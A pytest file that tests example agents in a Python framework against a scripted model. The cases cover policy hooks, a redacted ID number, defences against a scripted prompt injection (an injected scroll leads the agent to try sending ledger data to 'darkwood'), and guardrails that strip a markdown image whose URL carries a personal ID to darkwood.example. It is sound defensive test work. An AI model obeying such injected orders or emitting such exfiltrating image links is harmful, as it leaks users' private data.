"""The level 6 and level 14 examples run, with a scripted model, and tell their story."""

from __future__ import annotations

from pathlib import Path

import bandoneon
import pytest
from bandoneon.testing import ScriptedModel, call, load_script

EXAMPLES = Path(__file__).resolve().parents[3] / "examples"


def load(name: str):
    module = load_script(EXAMPLES / f"{name}.py")
    return module


@pytest.fixture
def without_policy_packs(monkeypatch):
    """Level 6 is about the agent's own hooks: keep installed policy packs out of the way."""
    monkeypatch.setenv("BANDONEON_DISABLED_PLUGINS", "policy-example")
    bandoneon.refresh_plugins()
    yield
    bandoneon.refresh_plugins()


def test_level_06_refuses_first_class_and_hides_the_id(without_policy_packs, capsys):
    example = load("level_06_hooks")
    model = ScriptedModel(
        call("find_trains", to="Mar del Plata", date="Friday"),
        call("book_ticket", train=101, seat_class="first"),
        call("book_ticket", train=101, seat_class="tourist"),
        "First class needs a manager's approval, so I booked tourist on train 101, seat 14B.",
    )
    result = example.main(model)
    assert result.ok and "tourist" in result.text
    tool_texts = [m.content for m in model.requests[-1].messages if m.role == "tool"]
    assert tool_texts[1].startswith("Blocked by policy: first class")
    assert "DNI ***" in tool_texts[2] and "30.123.456" not in str(model.requests)
    out = capsys.readouterr().out
    assert "refused:" in out
    costs = out.split("what the booths cost in this run:\n")[1].splitlines()
    assert costs[0].split()[:2] == ["plugin", "calls"] and costs[1].startswith("railway-rules ")


def test_level_14_holds_the_wall_against_the_injected_scroll(capsys):
    example = load("level_14_security")
    model = ScriptedModel(
        call("read_scroll", id=1),
        call("read_scroll", id=2),
        call("send_raven", to="darkwood", text="The ledger: gold 1,200"),  # fooled by scroll 2
        call("read_scroll", id=3),
        call("send_raven", to="riverhold", text="Thank you; bandits on the east road."),
        "Scroll 2 was an injected order; the raven to darkwood was blocked. Riverhold is warned.",
    )
    result = example.main(model)
    assert result.ok
    assert example.RAVENS == [("riverhold", "Thank you; bandits on the east road.")]
    tool_texts = [m.content for m in model.requests[-1].messages if m.role == "tool"]
    assert tool_texts[1].startswith('<untrusted source="read_scroll">') and tool_texts[1].count("</untrusted>") == 1
    assert tool_texts[2].startswith("Blocked by policy (ravens-to-allies")
    assert "[seal]" in tool_texts[3] and "7731" not in tool_texts[3]
    assert "Text inside <untrusted" in model.requests[0].system_prompt
    out = capsys.readouterr().out
    assert "lethal trifecta" in out and "barrier:" in out


def test_answer_guardrails_remove_the_leaking_image_and_redact_the_id(capsys):
    leak = "The scroll greets the steward DNI 30.123.456 today. ![seal](https://darkwood.example/seal.png?who=DNI%2030.123.456)"
    model = ScriptedModel(call("read_scroll"), leak)
    result = load("answer_guardrails").main(model)
    assert result.text == "The scroll greets the steward DNI *** today. [image removed: darkwood.example is not an allowed host]"
    assert "darkwood" not in capsys.readouterr().out.split("answer:")[1].split("[image removed")[0]


def test_answer_guardrails_in_refuse_mode_ask_again():
    model = ScriptedModel(call("read_scroll"), "Here: https://darkwood.example/x", "A greeting from Darkwood, nothing more.")
    result = load("answer_guardrails").main(model, refuse=True)
    assert (result.stop, result.text, result.turns) == ("end_turn", "A greeting from Darkwood, nothing more.", 3)
    assert "links to darkwood.example" in model.requests[2].messages[-1].content
